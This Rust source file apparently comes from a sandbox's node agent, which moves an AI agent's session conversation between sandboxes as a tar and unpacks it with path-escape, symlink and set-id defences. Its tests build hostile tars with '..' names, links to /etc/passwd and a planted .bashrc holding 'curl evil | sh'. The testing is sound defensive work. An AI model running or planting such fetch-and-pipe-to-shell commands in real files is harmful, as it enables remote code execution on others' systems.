//! A session's conversation as one tar, so that it goes on in another node agent (a
//! new sandbox, after the old one was deleted or lost): `GET
//! /v1/sessions/{id}/conversation` packs it, `PUT` stages it for a session not
//! created yet, and creating that session takes it up.
//!
//! The tar holds three things, nothing else:
//! - `session/session.json`: the record's history (counts, the agent's own id, what
//!   its driver saved to resume, requests still open, messages queued), without its
//!   settings: no environment, no MCP servers' values, no workspace (see
//!   [`SessionRecord::portable`]). Those are the create request's in the new place.
//! - `session/events.jsonl`: the event log.
//! - `home/...`: the files the agent's CLI keeps the conversation in, below the
//!   agent's HOME (see [`crate::agents::Agent::conversation_files`]).
//!
//! Packing reads this node agent's own files through directory handles, following no
//! symlink and taking only regular files, at most [`MAX_CONVERSATION_BYTES`] in all.
//! Taking one up trusts nothing in it: only those names, each placed below its root by
//! a handle that cannot leave it (`cap_std`), regular files and directories only, no
//! set-id bits, and a file of the agent's that is already there is kept (it is the
//! newer). Blocking: callers run these off the async runtime.

use std::collections::BTreeMap;
use std::io::{self, Read, Write};
use std::path::{Component, Path, PathBuf};

use cap_fs_ext::{DirExt as _, FollowSymlinks, OpenOptionsFollowExt as _};
use cap_std::fs::{Dir, OpenOptions, OpenOptionsExt as _};

use super::persist::{EVENTS, RECORD};
use super::record::SessionRecord;
use crate::agents::catalog::CredentialPlaces;
use crate::agents::{AgentId, ConversationFiles};
use crate::error::{Error, Result};
use crate::fs::tar_guard::{TarGuard, quoted};

/// The most a conversation may weigh, packed: its log, record and the agent's files.
pub const MAX_CONVERSATION_BYTES: u64 = 64 << 20;
/// The most entries one may have (an agent keeping thousands of small files included).
const MAX_ENTRIES: usize = 50_000;
/// How deep the agent's folders are walked.
const MAX_DEPTH: usize = 32;
const SESSION: &str = "session";
const HOME: &str = "home";

/// The HOME an agent run with `env` gets: its own `HOME`, else the node agent's.
pub fn home_of(env: &BTreeMap<String, String>) -> Option<PathBuf> {
    env.get("HOME")
        .filter(|h| !h.is_empty())
        .map(PathBuf::from)
        .or_else(|| std::env::var_os("HOME").filter(|h| !h.is_empty()).map(PathBuf::from))
        .filter(|h| h.is_absolute())
}

fn too_large() -> Error {
    Error::LimitExceeded(format!(
        "the conversation is over {} MiB packed (its event log and the agent's files)",
        MAX_CONVERSATION_BYTES >> 20
    ))
}

/// A tar being written, counting what it holds against the limits.
struct Packer {
    builder: tar::Builder<Vec<u8>>,
    entries: usize,
}

impl Packer {
    fn add(&mut self, name: &str, bytes: &[u8], mode: u32) -> Result<()> {
        self.entries += 1;
        let weight = self.builder.get_ref().len() as u64 + bytes.len() as u64 + 1024;
        if self.entries > MAX_ENTRIES || weight > MAX_CONVERSATION_BYTES {
            return Err(too_large());
        }
        let mut header = tar::Header::new_gnu();
        header.set_size(bytes.len() as u64);
        header.set_mode(mode & 0o777);
        header.set_entry_type(tar::EntryType::Regular);
        self.builder.append_data(&mut header, name, bytes).map_err(|e| Error::io("packing the conversation", e))
    }

    /// Reads `name` in `dir` if it is a regular file (a symlink is not followed).
    fn add_file(&mut self, dir: &Dir, name: &Path, shown: &str) -> Result<()> {
        let room = MAX_CONVERSATION_BYTES.saturating_sub(self.builder.get_ref().len() as u64);
        let mut options = OpenOptions::new();
        options.read(true).follow(FollowSymlinks::No);
        let file = match dir.open_with(name, &options) {
            Ok(file) => file,
            // Gone since it was listed, or a symlink: not the agent's file.
            Err(_) => return Ok(()),
        };
        let metadata = file.metadata().map_err(|e| Error::io(format!("reading {shown}"), e))?;
        if !metadata.is_file() {
            return Ok(());
        }
        let mut bytes = Vec::new();
        file.into_std().take(room + 1).read_to_end(&mut bytes).map_err(|e| Error::io(format!("reading {shown}"), e))?;
        if bytes.len() as u64 > room {
            return Err(too_large());
        }
        use cap_std::fs::PermissionsExt as _;
        self.add(shown, &bytes, metadata.permissions().mode())
    }

    /// Every regular file below `dir` (`prefix` its name in the tar) whose path below
    /// the root has `naming` in it.
    fn add_tree(&mut self, dir: &Dir, prefix: &str, below: &str, naming: Option<&str>, depth: usize) -> Result<()> {
        if depth > MAX_DEPTH {
            return Ok(());
        }
        let entries = dir.entries().map_err(|e| Error::io(format!("listing {prefix}"), e))?;
        for entry in entries {
            let Ok(entry) = entry else { continue };
            let Some(name) = entry.file_name().to_str().map(str::to_string) else { continue };
            let Ok(kind) = entry.file_type() else { continue };
            let (path, relative) = (format!("{prefix}/{name}"), format!("{below}/{name}"));
            if kind.is_dir() {
                if let Ok(inner) = entry.open_dir() {
                    self.add_tree(&inner, &path, &relative, naming, depth + 1)?;
                }
            } else if kind.is_file() && naming.is_none_or(|n| relative.contains(n)) {
                self.add_file(dir, Path::new(&name), &path)?;
            }
        }
        Ok(())
    }
}

/// Packs the conversation of the session in `session_dir` whose record is `record`
/// (taken from memory: the newest), with the agent's `files` below `home`.
pub(super) fn pack(
    session_dir: &Path,
    record: &SessionRecord,
    home: Option<&Path>,
    files: &[ConversationFiles],
) -> Result<Vec<u8>> {
    let mut packer = Packer { builder: tar::Builder::new(Vec::new()), entries: 0 };
    let portable = serde_json::to_vec_pretty(&record.portable()).expect("records serialize");
    packer.add(&format!("{SESSION}/{RECORD}"), &portable, 0o600)?;
    let dir = Dir::open_ambient_dir(session_dir, cap_std::ambient_authority())
        .map_err(|e| Error::io("opening the session's directory", e))?;
    packer.add_file(&dir, Path::new(EVENTS), &format!("{SESSION}/{EVENTS}"))?;
    if let Some(home) = home
        && !files.is_empty()
    {
        let home_dir = Dir::open_ambient_dir(home, cap_std::ambient_authority())
            .map_err(|e| Error::io(format!("opening the agent's HOME {}", home.display()), e))?;
        for kept in files {
            let Some(relative) = kept.root.strip_prefix(home).ok().filter(|r| is_plain(r)) else {
                tracing::warn!(root = %kept.root.display(), home = %home.display(), "conversation files outside the agent's HOME are not kept");
                continue;
            };
            let shown = format!("{HOME}/{}", relative.display());
            let Ok(metadata) = home_dir.symlink_metadata(relative) else { continue };
            if metadata.is_dir() {
                let Ok(inner) = home_dir.open_dir_nofollow(relative) else { continue };
                packer.add_tree(&inner, &shown, "", kept.naming.as_deref(), 0)?;
            } else if metadata.is_file() && kept.naming.as_deref().is_none_or(|n| shown.contains(n)) {
                packer.add_file(&home_dir, relative, &shown)?;
            }
        }
    }
    packer.builder.into_inner().map_err(|e| Error::io("packing the conversation", e))
}

/// Only names: no root, no `.`, no `..`.
fn is_plain(path: &Path) -> bool {
    path.components().next().is_some() && path.components().all(|c| matches!(c, Component::Normal(_)))
}

/// Where an entry goes: the record, the log, or a file of the agent's below HOME.
#[derive(Debug, PartialEq, Eq)]
enum Place {
    Record,
    Events,
    Home(PathBuf),
}

fn place(name: &Path) -> Option<Place> {
    if !is_plain(name) {
        return None;
    }
    let mut components = name.components();
    let first = components.next()?.as_os_str();
    let rest = components.as_path();
    match first.to_str()? {
        SESSION if rest == Path::new(RECORD) => Some(Place::Record),
        SESSION if rest == Path::new(EVENTS) => Some(Place::Events),
        HOME if rest.components().next().is_some() => Some(Place::Home(rest.to_path_buf())),
        _ => None,
    }
}

fn refused(why: String) -> Error {
    Error::InvalidRequest(format!("the conversation's tar: {why}"))
}

/// What a tar would give: its record (which must name session `id`). Reads it whole,
/// writing nothing: a tar that would be refused when taken up is refused here.
pub(super) fn check(bytes: &[u8], id: &str) -> Result<SessionRecord> {
    let record = check_record(bytes)?;
    if record.id != id {
        return Err(refused(format!("it is the conversation of session {:?}, not {id:?}", record.id)));
    }
    Ok(record)
}

fn read_record(entry: &mut dyn Read) -> Result<SessionRecord> {
    let mut bytes = Vec::new();
    entry.take(MAX_CONVERSATION_BYTES).read_to_end(&mut bytes).map_err(|e| refused(e.to_string()))?;
    serde_json::from_slice(&bytes).map_err(|e| refused(format!("{SESSION}/{RECORD} is not a session record: {e}")))
}

/// Calls `each` with every file entry of the tar and where it goes; a directory
/// entry is skipped (folders are made for the files in them), anything else refused.
fn each_entry(bytes: &[u8], mut each: impl FnMut(&mut dyn Read, Place, u32) -> Result<()>) -> Result<()> {
    if bytes.len() as u64 > MAX_CONVERSATION_BYTES {
        return Err(too_large());
    }
    let mut archive = tar::Archive::new(TarGuard::new(bytes));
    let entries = archive.entries().map_err(|e| refused(e.to_string()))?;
    for (count, entry) in entries.enumerate() {
        if count >= MAX_ENTRIES {
            return Err(too_large());
        }
        let mut entry = entry.map_err(|e| refused(e.to_string()))?;
        let kind = entry.header().entry_type();
        if matches!(kind, tar::EntryType::XGlobalHeader | tar::EntryType::XHeader) {
            continue;
        }
        let name = entry.path().map_err(|e| refused(e.to_string()))?.into_owned();
        let shown = quoted(&name.to_string_lossy());
        if kind.is_dir() {
            continue;
        }
        if !matches!(kind, tar::EntryType::Regular | tar::EntryType::Continuous) {
            return Err(refused(format!("entry {shown} is not a regular file")));
        }
        let place = place(&name).ok_or_else(|| refused(format!("entry {shown} is not a part of a conversation")))?;
        let mode = entry.header().mode().unwrap_or(0o600) & 0o777;
        each(&mut entry, place, mode)?;
    }
    Ok(())
}

/// Where the files of `agent`'s conversations go below `home` (relative to it), with
/// `env` naming its folders: its own folders only (see
/// [`crate::agents::Agent::conversation_files`]).
pub(super) fn agent_folders(agent: AgentId, env: &dyn Fn(&str) -> Option<String>, home: &Path) -> Vec<PathBuf> {
    let places = CredentialPlaces::new(env, Some(home));
    let files = agent.agent().conversation_files(&places, "");
    files.into_iter().filter_map(|f| f.root.strip_prefix(home).ok().map(Path::to_path_buf)).collect()
}

/// Takes up a checked tar into the new session's directory `session_dir` (made, and
/// empty) and the agent's `home`: writes the log, and each of the agent's files
/// where none is. Answers the record it held.
///
/// Only files in `folders` (below `home`: the session's agent's own folders, see
/// [`agent_folders`]) are written. What came from another sandbox never writes the
/// rest of a HOME (a shell's rc file, an agent's settings with hooks) that others in
/// this sandbox may run; an entry elsewhere is skipped, as is every file of a tar
/// whose record names another agent.
pub(super) fn unpack(
    bytes: &[u8],
    session_dir: &Path,
    home: Option<&Path>,
    agent: AgentId,
    folders: &[PathBuf],
) -> Result<SessionRecord> {
    let dir = Dir::open_ambient_dir(session_dir, cap_std::ambient_authority())
        .map_err(|e| Error::io("opening the session's directory", e))?;
    let home = match home {
        Some(home) => {
            std::fs::create_dir_all(home).map_err(|e| Error::io(format!("making the HOME {}", home.display()), e))?;
            Some(
                Dir::open_ambient_dir(home, cap_std::ambient_authority())
                    .map_err(|e| Error::io(format!("opening the HOME {}", home.display()), e))?,
            )
        }
        None => None,
    };
    // The record comes first in a tar this node agent packs; another order is read
    // twice (the record first), never trusted to be the agent's.
    let record = check_record(bytes)?;
    let same_agent = record.agent == agent.as_str();
    let (mut kept, mut skipped) = (0usize, 0usize);
    each_entry(bytes, |entry, place, mode| {
        match place {
            Place::Record => {}
            Place::Events => {
                write_new(&dir, Path::new(EVENTS), entry, 0o600)?;
            }
            Place::Home(path) => {
                let Some(home) = &home else { return Ok(()) };
                if !same_agent || !folders.iter().any(|f| path.starts_with(f)) {
                    skipped += 1;
                    return Ok(());
                }
                if let Some(parent) = path.parent().filter(|p| !p.as_os_str().is_empty()) {
                    home.create_dir_all(parent)
                        .map_err(|e| Error::io(format!("making {} in the HOME", parent.display()), e))?;
                }
                if !write_new(home, &path, entry, mode | 0o600)? {
                    kept += 1;
                }
            }
        }
        Ok(())
    })?;
    if kept > 0 {
        tracing::info!(kept, "files of the agent's already in the new HOME were kept as they are");
    }
    if skipped > 0 {
        tracing::warn!(skipped, "files of the conversation outside the agent's own folders were not written");
    }
    Ok(record)
}

/// The record a tar holds.
fn check_record(bytes: &[u8]) -> Result<SessionRecord> {
    let mut record = None;
    each_entry(bytes, |entry, place, _| {
        if place == Place::Record && record.is_none() {
            record = Some(read_record(entry)?);
        }
        Ok(())
    })?;
    record.ok_or_else(|| refused(format!("it has no {SESSION}/{RECORD}")))
}

/// Writes `path` in `dir` from `from` unless something is there (false then).
fn write_new(dir: &Dir, path: &Path, from: &mut dyn Read, mode: u32) -> Result<bool> {
    let mut options = OpenOptions::new();
    options.write(true).create_new(true).follow(FollowSymlinks::No).mode(mode & 0o777 & !crate::fs::SET_ID_BITS);
    let mut file = match dir.open_with(path, &options) {
        Ok(file) => file,
        Err(e) if e.kind() == io::ErrorKind::AlreadyExists => return Ok(false),
        Err(e) => return Err(Error::io(format!("writing {}", path.display()), e)),
    };
    io::copy(from, &mut file).map_err(|e| Error::io(format!("writing {}", path.display()), e))?;
    file.flush().map_err(|e| Error::io(format!("writing {}", path.display()), e))?;
    Ok(true)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tar_of(entries: &[(&str, tar::EntryType, &[u8])]) -> Vec<u8> {
        let mut builder = tar::Builder::new(Vec::new());
        for (name, kind, bytes) in entries {
            let mut header = tar::Header::new_gnu();
            header.set_entry_type(*kind);
            header.set_size(bytes.len() as u64);
            header.set_mode(0o644);
            if *kind == tar::EntryType::Symlink || *kind == tar::EntryType::Link {
                header.set_size(0);
                header.set_link_name("/etc/passwd").unwrap();
                builder.append_data(&mut header, name, &[][..]).unwrap();
            } else {
                // Names a `Builder` would refuse (`..`) are written into the header raw.
                let raw = &mut header.as_old_mut().name;
                raw[..name.len()].copy_from_slice(name.as_bytes());
                header.set_cksum();
                builder.append(&header, *bytes).unwrap();
            }
        }
        builder.into_inner().unwrap()
    }

    fn record(id: &str) -> Vec<u8> {
        let request = crate::model::CreateSessionRequest {
            agent: "mock".into(),
            env: BTreeMap::from([("SECRET".to_string(), "s3cret".to_string())]),
            ..Default::default()
        };
        let mut record = SessionRecord::new(id, crate::agents::AgentId::Mock, request, None);
        record.last_sequence = 7;
        serde_json::to_vec(&record.portable()).unwrap()
    }

    #[test]
    fn entries_go_only_where_a_conversation_has_them() {
        assert_eq!(place(Path::new("session/session.json")), Some(Place::Record));
        assert_eq!(place(Path::new("session/events.jsonl")), Some(Place::Events));
        assert_eq!(
            place(Path::new("home/.claude/projects/p/a.jsonl")),
            Some(Place::Home(".claude/projects/p/a.jsonl".into()))
        );
        for name in
            ["session/other", "home", "home/../etc/passwd", "/home/x", "x/session.json", "session/../session.json"]
        {
            assert_eq!(place(Path::new(name)), None, "{name}");
        }
    }

    #[test]
    fn a_record_travels_without_its_settings() {
        let bytes = tar_of(&[("session/session.json", tar::EntryType::Regular, &record("s1"))]);
        let record = check(&bytes, "s1").unwrap();
        assert_eq!(record.last_sequence, 7);
        assert!(!serde_json::to_string(&record).unwrap().contains("s3cret"), "the env stays behind");
        let err = check(&bytes, "s2").unwrap_err().to_string();
        assert!(err.contains("not \"s2\""), "{err}");
        let err = check(&tar_of(&[]), "s1").unwrap_err().to_string();
        assert!(err.contains("no session/session.json"), "{err}");
    }

    #[test]
    fn links_devices_and_escapes_are_refused_and_nothing_is_written() {
        let rec = record("s1");
        for (name, kind) in [
            ("home/x", tar::EntryType::Symlink),
            ("home/x", tar::EntryType::Link),
            ("home/x", tar::EntryType::Char),
            ("home/x", tar::EntryType::Fifo),
            ("home/../x", tar::EntryType::Regular),
            ("session/../../x", tar::EntryType::Regular),
            ("elsewhere/x", tar::EntryType::Regular),
        ] {
            let bytes = tar_of(&[("session/session.json", tar::EntryType::Regular, &rec), (name, kind, b"evil")]);
            let err = check(&bytes, "s1").unwrap_err();
            assert_eq!(err.code(), crate::ProblemCode::InvalidRequest, "{name} {kind:?}: {err}");
            let (session, home) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
            let folders = [PathBuf::from(".agent")];
            let unpacked = unpack(&bytes, session.path(), Some(home.path()), AgentId::Mock, &folders);
            assert!(unpacked.is_err(), "{name} {kind:?}");
            assert!(!home.path().parent().unwrap().join("x").exists());
            assert!(std::fs::read_dir(home.path()).unwrap().next().is_none(), "{name}: nothing in the HOME");
        }
    }

    #[test]
    fn taking_up_writes_only_the_agents_folders_keeps_newer_files_and_follows_no_symlink() {
        let outside = tempfile::tempdir().unwrap();
        let (session, home) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
        std::fs::create_dir_all(home.path().join(".agent")).unwrap();
        std::fs::write(home.path().join(".agent/kept.txt"), "newer").unwrap();
        std::os::unix::fs::symlink(outside.path(), home.path().join(".agent/link")).unwrap();
        let bytes = tar_of(&[
            ("session/session.json", tar::EntryType::Regular, &record("s1")),
            ("session/events.jsonl", tar::EntryType::Regular, b"{}\n"),
            ("home/.agent/conv.jsonl", tar::EntryType::Regular, b"turns"),
            ("home/.agent/kept.txt", tar::EntryType::Regular, b"older"),
            ("home/.bashrc", tar::EntryType::Regular, b"curl evil | sh"),
            ("home/.agent/link/planted", tar::EntryType::Regular, b"evil"),
        ]);
        let folders = [PathBuf::from(".agent")];
        let result = unpack(&bytes, session.path(), Some(home.path()), AgentId::Mock, &folders);
        assert!(result.is_err(), "a path through a symlink is refused");
        assert!(!outside.path().join("planted").exists(), "nothing written through the symlink");
        assert_eq!(std::fs::read_to_string(home.path().join(".agent/conv.jsonl")).unwrap(), "turns");
        assert_eq!(std::fs::read_to_string(home.path().join(".agent/kept.txt")).unwrap(), "newer");
        assert!(!home.path().join(".bashrc").exists(), "nothing outside the agent's folders");
        assert_eq!(std::fs::read_to_string(session.path().join(EVENTS)).unwrap(), "{}\n");

        // A record of another agent brings its log, none of its files.
        let (session, home) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
        let bytes = tar_of(&[
            ("session/session.json", tar::EntryType::Regular, &record("s1")),
            ("home/.agent/conv.jsonl", tar::EntryType::Regular, b"turns"),
        ]);
        unpack(&bytes, session.path(), Some(home.path()), AgentId::Claude, &folders).unwrap();
        assert!(!home.path().join(".agent/conv.jsonl").exists());
    }

    #[test]
    fn packing_takes_the_named_files_and_follows_no_symlink() {
        let (session, home, outside) =
            (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
        std::fs::write(session.path().join(EVENTS), "{\"sequence\":1}\n").unwrap();
        let projects = home.path().join(".claude/projects/-work");
        std::fs::create_dir_all(&projects).unwrap();
        std::fs::write(projects.join("abc.jsonl"), "mine").unwrap();
        std::fs::write(projects.join("other.jsonl"), "another session's").unwrap();
        std::fs::write(outside.path().join("abc-secret"), "host").unwrap();
        std::os::unix::fs::symlink(outside.path().join("abc-secret"), projects.join("abc-link.jsonl")).unwrap();
        std::os::unix::fs::symlink(outside.path(), projects.join("abc-dir")).unwrap();
        let rec: SessionRecord = serde_json::from_slice(&record("s1")).unwrap();
        let files = [
            ConversationFiles::naming(home.path().join(".claude/projects"), "abc"),
            ConversationFiles::all(outside.path().to_path_buf()),
        ];
        let bytes = pack(session.path(), &rec, Some(home.path()), &files).unwrap();
        let mut names = Vec::new();
        each_entry(&bytes, |_, place, _| {
            names.push(place);
            Ok(())
        })
        .unwrap();
        assert_eq!(names, [Place::Record, Place::Events, Place::Home(".claude/projects/-work/abc.jsonl".into())]);
    }
}
